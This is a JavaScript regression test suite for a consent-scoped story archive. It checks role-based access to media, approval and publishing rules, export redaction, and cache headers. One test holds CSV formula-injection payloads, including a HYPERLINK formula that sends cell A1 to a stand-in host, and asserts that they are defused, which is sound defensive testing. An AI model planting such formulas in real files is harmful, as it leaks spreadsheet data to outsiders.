// Consent and visibility on every read path, one regression per defect:
// media and renditions follow the entry's visibility and consent scope;
// publishing needs the publish scope, approving does not; analysts see of an analysis_only
// story only that it exists and its themes; exports quote only what the
// scope allows, for moderators too, with spreadsheet formulas defused;
// a sealed original has one Cache-Control; a reason that is not UTF-8
// is 400. The full matrix is tests/e2e/access_matrix.test.mjs.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { psql, waitFor } from './lib/harness.mjs';
import { setup, submit, auth, CONSENT } from './lib/consent.mjs';
import { fixtures } from './lib/search.mjs';
import { token } from './lib/media.mjs';

const fx = fixtures();
const FILES = [{ name: 'stem.ogg', data: fx.ogg, type: 'audio/ogg' }, { name: 'foto.png', data: fx.png, type: 'image/png' }];

async function story(ctx, scope, text, extra = {}) {
  const r = await submit(ctx, { text, consent: CONSENT(scope), themes: ['geweld'], ...extra }, FILES);
  assert.equal(r.status, 201);
  return (await r.json()).id;
}

// Waits for an entry's media jobs; resolves {audio, photo} media ids.
async function processed(ctx, id) {
  await waitFor(() => psql(ctx.url, `SELECT count(*) FROM media WHERE entry_id = ${id} AND status = 'ready'`) === '2',
    { timeout: 60000, interval: 200 });
  return {
    audio: psql(ctx.url, `SELECT id FROM media WHERE entry_id = ${id} AND family = 'audio'`),
    photo: psql(ctx.url, `SELECT id FROM media WHERE entry_id = ${id} AND family = 'image'`),
  };
}

const status = async (ctx, p, token) => {
  const r = await fetch(`${ctx.d.url}${p}`, { headers: auth(token) });
  await r.arrayBuffer();
  return r.status;
};
const json = async (ctx, p, token) => (await fetch(`${ctx.d.url}${p}`, { headers: auth(token) })).json();
const text = async (ctx, p, token) => (await fetch(`${ctx.d.url}${p}`, { headers: auth(token) })).text();
const mod = (ctx, id, what, body) => fetch(`${ctx.d.url}/api/v1/entries/${id}/${what}`, {
  method: 'POST', headers: auth(ctx.tokens.moderator, { 'Content-Type': 'application/json' }), body: JSON.stringify(body ?? {}),
});

test('analysts get no media of stories or visits they may not see', { timeout: 120000 }, async () => {
  const ctx = await setup();
  try {
    const id = await story(ctx, 'analysis_only', 'nog niet beoordeeld');
    const m = await processed(ctx, id);
    assert.equal(await status(ctx, `/api/v1/entries/${id}`, ctx.tokens.analyst), 404);
    for (const p of [`/api/v1/media/${m.audio}`, `/api/v1/media/${m.audio}/audio.opus`, `/api/v1/media/${m.audio}/peaks.json`,
      `/api/v1/media/${m.photo}`, `/api/v1/media/${m.photo}/display.jpg`, `/api/v1/media/${m.photo}/thumb.jpg`]) {
      assert.equal(await status(ctx, p, ctx.tokens.analyst), 404, `analyst: ${p}`);
      assert.equal(await status(ctx, p, ctx.tokens.moderator), 200, `moderator: ${p}`);
    }
    // Published, analysis_only: still neither recording nor photo.
    psql(ctx.url, `UPDATE entry SET status = 'published' WHERE id = ${id}`);
    assert.equal(await status(ctx, `/api/v1/entries/${id}`, ctx.tokens.analyst), 200);
    assert.equal(await status(ctx, `/api/v1/media/${m.photo}/display.jpg`, ctx.tokens.analyst), 404);
    assert.equal(await status(ctx, `/api/v1/media/${m.audio}/audio.opus`, ctx.tokens.analyst), 404);

    // A field worker's own visit photo: not for analysts, nor for another field worker.
    const fw2 = token(ctx.url, 'fw2', 'fieldworker');
    const fd = new FormData();
    fd.append('entry', JSON.stringify({ kind: 'visit', text: 'bezoek' }));
    fd.append('file', new Blob([fx.png], { type: 'image/png' }), 'bezoek.png');
    const v = await fetch(`${ctx.d.url}/api/v1/entries`, { method: 'POST', headers: auth(ctx.tokens.fieldworker), body: fd });
    assert.equal(v.status, 201);
    const photo = (await v.json()).media[0].id;
    await waitFor(() => psql(ctx.url, `SELECT status FROM media WHERE id = ${photo}`) === 'ready', { timeout: 60000, interval: 200 });
    for (const p of [`/api/v1/media/${photo}`, `/api/v1/media/${photo}/display.jpg`, `/api/v1/media/${photo}/thumb.jpg`]) {
      assert.equal(await status(ctx, p, ctx.tokens.analyst), 404, `analyst: ${p}`);
      assert.equal(await status(ctx, p, fw2), 404, `other field worker: ${p}`);
      assert.equal(await status(ctx, p, ctx.tokens.fieldworker), 200, `owner: ${p}`);
    }
  } finally {
    await ctx.d.stop('SIGKILL');
  }
});

test('publishing needs the publish scope', async () => {
  const ctx = await setup();
  try {
    for (const scope of ['analysis_only', 'quote_anonymised', 'audio_to_staff']) {
      const r = await submit(ctx, { text: scope, consent: CONSENT(scope) });
      const id = (await r.json()).id;
      const p = await mod(ctx, id, 'publish');
      assert.equal(p.status, 409, scope);
      const body = await p.json();
      assert.equal(body.type, '/problems/consent-scope');
      assert.match(body.detail, new RegExp(scope));
      assert.equal(psql(ctx.url, `SELECT status FROM entry WHERE id = ${id}`), 'pending_review');
      assert.equal(psql(ctx.url, `SELECT count(*) FROM moderation WHERE entry_id = ${id}`), '0');
    }
    const r = await submit(ctx, { text: 'mag naar buiten', consent: CONSENT('publish') });
    const id = (await r.json()).id;
    assert.equal((await mod(ctx, id, 'publish')).status, 200);
    assert.equal(psql(ctx.url, `SELECT status FROM entry WHERE id = ${id}`), 'published');
  } finally {
    await ctx.d.stop('SIGKILL');
  }
});

// Two outcomes of a review: approving (vrijgeven) releases a story of any
// scope to analysts, who then see the scope's part of it; publishing
// (publiceren) also clears it for use outside the staff and needs the
// publish scope. An approved story may be published later; a published
// one is released already.
test('approving releases every scope to analysts within its scope; publishing still needs the publish scope', async () => {
  const ctx = await setup();
  try {
    const scopes = ['analysis_only', 'quote_anonymised', 'audio_to_staff', 'publish'];
    const ids = {};
    for (const scope of scopes) {
      const r = await submit(ctx, { title: `titel ${scope} vrijwoord`, text: `tekst ${scope} vrijwoord`,
        consent: CONSENT(scope), themes: ['geweld'] });
      ids[scope] = (await r.json()).id;
      assert.equal(await status(ctx, `/api/v1/entries/${ids[scope]}`, ctx.tokens.analyst), 404, `${scope}: pending`);
    }
    for (const scope of scopes) {
      const id = ids[scope];
      const r = await mod(ctx, id, 'approve');
      assert.equal(r.status, 200, scope);
      assert.deepEqual(await r.json(), { id, status: 'approved' });
      assert.equal(psql(ctx.url, `SELECT status FROM entry WHERE id = ${id}`), 'approved');
      // What the analyst then gets is the scope's part.
      const e = await json(ctx, `/api/v1/entries/${id}`, ctx.tokens.analyst);
      assert.deepEqual(e.themes, ['geweld'], scope);
      assert.equal(e.text, scope === 'analysis_only' ? null : `tekst ${scope} vrijwoord`, `${scope}: text`);
      assert.equal(e.allowed.includes('quote'), ['quote_anonymised', 'publish'].includes(scope), `${scope}: quote`);
      assert.equal(e.allowed.includes('play'), ['audio_to_staff', 'publish'].includes(scope), `${scope}: play`);
      // Approving twice is a conflict.
      const again = await mod(ctx, id, 'approve');
      assert.equal(again.status, 409, `${scope}: approved twice`);
      assert.equal((await again.json()).type, '/problems/conflict');
    }
    // Search lists them; moderators filter by the new status.
    const s = await json(ctx, '/api/v1/entries?q=vrijwoord', ctx.tokens.analyst);
    assert.deepEqual(s.items.map((i) => i.id).sort(), Object.values(ids).sort());
    assert.equal(s.items.find((i) => i.id === ids.analysis_only).title, null);
    const f = await fetch(`${ctx.d.url}/api/v1/entries?status=approved`, { headers: auth(ctx.tokens.moderator) });
    assert.equal(f.status, 200);
    assert.deepEqual((await f.json()).items.map((i) => i.id).sort(), Object.values(ids).sort());
    // Publishing an approved story: only with the publish scope.
    for (const scope of ['analysis_only', 'quote_anonymised', 'audio_to_staff']) {
      const p = await mod(ctx, ids[scope], 'publish');
      assert.equal(p.status, 409, scope);
      const body = await p.json();
      assert.equal(body.type, '/problems/consent-scope');
      assert.match(body.detail, new RegExp(`consent scope is ${scope}`));
      assert.match(body.detail, new RegExp(`/api/v1/entries/${ids[scope]}/approve`));
      assert.equal(psql(ctx.url, `SELECT status FROM entry WHERE id = ${ids[scope]}`), 'approved');
    }
    const p = await mod(ctx, ids.publish, 'publish');
    assert.equal(p.status, 200);
    assert.deepEqual(await p.json(), { id: ids.publish, status: 'published' });
    // Published includes released: approving it now is refused, and it stays published.
    const back = await mod(ctx, ids.publish, 'approve');
    assert.equal(back.status, 409);
    assert.match((await back.json()).detail, /already published/);
    assert.equal(psql(ctx.url, `SELECT status FROM entry WHERE id = ${ids.publish}`), 'published');
    assert.equal(psql(ctx.url, `SELECT string_agg(action, ',' ORDER BY id) FROM moderation WHERE entry_id = ${ids.publish}`), 'approve,publish');
    assert.equal(psql(ctx.url, `SELECT string_agg(action, ',' ORDER BY id) FROM moderation WHERE entry_id = ${ids.analysis_only}`), 'approve');
    // A visit without consent is approved and published alike; others may not approve.
    const fd = new FormData();
    fd.append('entry', JSON.stringify({ kind: 'visit', text: 'werkbezoek vrijwoord' }));
    const v = await (await fetch(`${ctx.d.url}/api/v1/entries`, { method: 'POST', headers: auth(ctx.tokens.fieldworker), body: fd })).json();
    for (const who of ['analyst', 'fieldworker']) {
      const r = await fetch(`${ctx.d.url}/api/v1/entries/${v.id}/approve`, { method: 'POST', headers: auth(ctx.tokens[who]) });
      assert.equal(r.status, 403, who);
    }
    assert.equal((await mod(ctx, v.id, 'approve')).status, 200);
    assert.equal((await mod(ctx, v.id, 'publish')).status, 200);
    assert.equal((await mod(ctx, 99999, 'approve')).status, 404);
  } finally {
    await ctx.d.stop('SIGKILL');
  }
});

test('analysts see of an analysis_only story only that it exists and its themes; exports quote by scope', async () => {
  const ctx = await setup();
  try {
    const ids = {};
    for (const scope of ['analysis_only', 'quote_anonymised', 'audio_to_staff', 'publish']) {
      const r = await submit(ctx, { title: `titel ${scope} geheimwoord`, text: `tekst ${scope} geheimwoord`,
        consent: CONSENT(scope), themes: ['geweld'], area: 'BU03440111' });
      ids[scope] = (await r.json()).id;
    }
    psql(ctx.url, `UPDATE entry SET status = 'published' WHERE id IN (${Object.values(ids)})`);
    const a = ids.analysis_only;
    // The entry, search, the dossier's latest stories.
    const e = await json(ctx, `/api/v1/entries/${a}`, ctx.tokens.analyst);
    assert.equal(e.title, null);
    assert.equal(e.text, null);
    assert.deepEqual(e.themes, ['geweld']);
    assert.deepEqual(e.media, []);
    const s = await json(ctx, '/api/v1/entries?q=geheimwoord', ctx.tokens.analyst);
    const item = s.items.find((i) => i.id === a);
    assert.ok(item);
    assert.equal(item.title, null);
    assert.equal(item.snippet, null);
    assert.equal(s.items.find((i) => i.id === ids.publish).title, 'titel publish geheimwoord');
    const dos = await json(ctx, '/api/v1/areas/GM0344/dossier', ctx.tokens.analyst);
    if (dos.latest) {
      const l = dos.latest.find((i) => i.id === a);
      assert.ok(l, 'the dossier lists the story');
      assert.equal(l.title, null);
    }
    // The CSV: analysts and moderators alike quote only where the scope allows.
    for (const who of ['analyst', 'moderator']) {
      const csv = (await text(ctx, '/api/v1/exports/entries.csv', ctx.tokens[who])).split('\n');
      for (const [scope, id] of Object.entries(ids)) {
        const line = csv.find((l) => l.replace(/^\uFEFF/, '').startsWith(`${id},`));
        assert.ok(line, `${who}: row of ${scope}`);
        assert.equal(line.includes('geheimwoord'), ['quote_anonymised', 'publish'].includes(scope), `${who}: text of ${scope}`);
      }
    }
    // Moderators still read the story itself, to review it.
    assert.equal((await json(ctx, `/api/v1/entries/${a}`, ctx.tokens.moderator)).text, 'tekst analysis_only geheimwoord');
  } finally {
    await ctx.d.stop('SIGKILL');
  }
});

test('CSV cells that a spreadsheet would run as formulas are defused', async () => {
  const ctx = await setup();
  try {
    const bad = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', '+31 6 1234', '-2+3', '@SUM(A1)', '\tinspring', '\rterug'];
    const ids = [];
    for (const t of bad) {
      const r = await submit(ctx, { title: t, text: t, consent: CONSENT('publish') });
      ids.push((await r.json()).id);
    }
    psql(ctx.url, `UPDATE entry SET status = 'published' WHERE id IN (${ids})`);
    const csv = await text(ctx, '/api/v1/exports/entries.csv?sep=semicolon', ctx.tokens.analyst);
    // Every title and text cell: quoted or not, it must not start with a trigger.
    const cells = [];
    const re = /(?:^|;)("(?:[^"]|"")*"|[^;\n]*)/g;
    for (const line of csv.replace(/^\uFEFF/, '').split('\n').slice(1)) {
      for (const m of line.matchAll(re)) cells.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
    }
    for (const t of bad) {
      assert.ok(cells.includes(`'${t}`) || csv.includes(`'${t.replace(/"/g, '""')}`), `defused: ${JSON.stringify(t)}`);
    }
    for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `a cell starts a formula: ${JSON.stringify(c)}`);
  } finally {
    await ctx.d.stop('SIGKILL');
  }
});

test('a sealed original is served with one Cache-Control: private, no-store', { timeout: 120000 }, async () => {
  const ctx = await setup();
  try {
    const id = await story(ctx, 'publish', 'origineel');
    const m = await processed(ctx, id);
    let r = await fetch(`${ctx.d.url}/api/v1/media/${m.photo}/original`, { headers: auth(ctx.tokens.admin, { 'X-Access-Reason': 'AVG inzageverzoek 2025-014' }) });
    await r.arrayBuffer();
    assert.equal(r.status, 200);
    assert.equal(r.headers.get('cache-control'), 'private, no-store');
    r = await fetch(`${ctx.d.url}/api/v1/media/${m.photo}/display.jpg`, { headers: auth(ctx.tokens.admin) });
    await r.arrayBuffer();
    assert.equal(r.headers.get('cache-control'), 'private, no-cache');
  } finally {
    await ctx.d.stop('SIGKILL');
  }
});

test('a reason for reading an original that is not UTF-8 is 400, and nothing is audited', { timeout: 120000 }, async () => {
  const ctx = await setup();
  try {
    const id = await story(ctx, 'publish', 'origineel');
    const m = await processed(ctx, id);
    let r;
    const before = psql(ctx.url, 'SELECT count(*) FROM audit');
    r = await fetch(`${ctx.d.url}/api/v1/media/${m.photo}/original?reason=%FF%FEverzoek`, { headers: auth(ctx.tokens.admin) });
    assert.equal(r.status, 400);
    assert.equal((await r.json()).type, '/problems/reason-required');
    r = await fetch(`${ctx.d.url}/api/v1/media/${m.photo}/original`, { headers: auth(ctx.tokens.admin, { 'X-Access-Reason': 'verzoek \xff\xfe 12' }) });
    assert.equal(r.status, 400);
    await r.arrayBuffer();
    assert.equal(psql(ctx.url, 'SELECT count(*) FROM audit'), before);
  } finally {
    await ctx.d.stop('SIGKILL');
  }
});
